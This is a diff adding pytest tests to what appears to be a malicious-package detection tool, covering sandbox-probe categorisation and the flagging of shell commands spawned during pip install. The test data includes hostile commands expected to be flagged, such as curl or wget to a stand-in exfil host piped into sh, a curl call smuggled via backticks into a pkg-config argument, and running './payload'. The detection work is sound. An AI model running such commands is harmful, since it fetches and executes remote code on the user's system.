@@ -6,6 +6,7 @@ import shutil
 from pathlib import Path
 
 import pandas as pd
+import pytest
 
 from slopspotter_lab.scan import FRAMES
 from slopspotter_lab.trace.categories import categorize_one
@@ -113,3 +114,65 @@ def test_truncated_trace_still_parses(tmp_path):
 def test_empty_outdir(tmp_path):
     f = build_frames(tmp_path)
     assert f.processes.empty and f.endpoints.empty and f.syscall_count == 0
+
+
+def test_own_cgroup_is_not_a_sandbox_probe():
+    # runtimes read their own cgroup for CPU quotas (uv-build, cryptography's Rust code did, in
+    # real benign scans); the container check reads pid 1's
+    assert categorize_one("/proc/self/cgroup") is None
+    assert categorize_one("/proc/1/cgroup") == "sandbox_probe"
+    assert categorize_one("/.dockerenv") == "sandbox_probe"
+
+
+def test_pip_build_env_runner_is_pip_so_executing_its_backend_is_not_package_behaviour():
+    from slopspotter_lab.trace.indicators import _file_indicators
+
+    hook = "/usr/lib/python3/dist-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py"
+    backend = "/tmp/pip-build-env-w1/overlay/local/bin/uv-build"
+    procs = pd.DataFrame([
+        {"pid": 10, "ppid": 1, "exe": "/usr/bin/python3", "argv": ["/usr/bin/python3", "-m", "pip", "install", "/in/p.tar.gz"]},
+        {"pid": 11, "ppid": 10, "exe": "/usr/bin/python3",
+         "argv": ["/usr/bin/python3", "/usr/lib/python3/dist-packages/pip/__pip-runner__.py", "install",
+                  "--prefix", "/tmp/pip-build-env-w1/overlay", "uv_build>=0.8"]},
+        {"pid": 12, "ppid": 10, "exe": "/usr/bin/python3", "argv": ["/usr/bin/python3", hook, "build_wheel", "/tmp/x"]},
+    ])
+    role = classify_processes(procs, {10}).set_index("pid")["role"].to_dict()
+    assert role[11] == "manager" and role[12] == "host"
+
+    def files(writer: int) -> pd.DataFrame:
+        return pd.DataFrame([
+            {"phase": "install", "pid": writer, "op": "create", "path": backend, "result": "ok", "category": None},
+            {"phase": "install", "pid": 12, "op": "exec", "path": backend, "result": "ok", "category": None}])
+
+    assert [i.id for i in _file_indicators(files(11), role)] == []  # pip installed the build backend
+    # the same file written by package code (the build hook) and then run is still caught
+    assert [i.id for i in _file_indicators(files(12), role)] == ["exec_written_file"]
+
+
+@pytest.mark.parametrize("command,flagged", [
+    ("pkg-config --modversion libxml-2.0", False),  # lxml's setup.py (real benign scan)
+    ("pkg-config --exists mariadb", False),  # mysqlclient
+    ('(cd  "/tmp/pip-req-build-x/deps/libev"  && sh ./configure -C > configure-output.txt )', False),  # gevent
+    ("mysql_config --libs 2>/dev/null", False),
+    ("curl -s http://stage.exfil.invalid/x | sh", True),
+    ("pkg-config --version; wget http://stage.exfil.invalid/x", True),
+    ("pkg-config --cflags `curl http://stage.exfil.invalid`", True),
+    ("make && ./payload", True),
+    ("whoami", True),
+])
+def test_build_probe_shells_in_install_are_tooling(command, flagged):
+    from slopspotter_lab.trace.indicators import _spawn_indicators
+
+    hook = "/usr/lib/python3/dist-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py"
+    procs = pd.DataFrame([
+        {"pid": 10, "ppid": 1, "phase": "install", "exe": "/usr/bin/python3",
+         "argv": ["/usr/bin/python3", "-m", "pip", "install", "/in/p.tar.gz"]},
+        {"pid": 12, "ppid": 10, "phase": "install", "exe": "/usr/bin/python3", "argv": ["/usr/bin/python3", hook]},
+        {"pid": 13, "ppid": 12, "phase": "install", "exe": "/bin/sh", "argv": ["/bin/sh", "-c", command]},
+    ])
+    procs = classify_processes(procs, {10})
+    role = dict(zip(procs["pid"], procs["role"]))
+    assert ("shell_spawn" in {i.id for i in _spawn_indicators(procs, role)}) is flagged
+    # the same probe at import time is not a build step: still a shell of the package's
+    late = classify_processes(procs.drop(columns="role").assign(phase="import"), {10})
+    assert "shell_spawn" in {i.id for i in _spawn_indicators(late, dict(zip(late["pid"], late["role"])))}
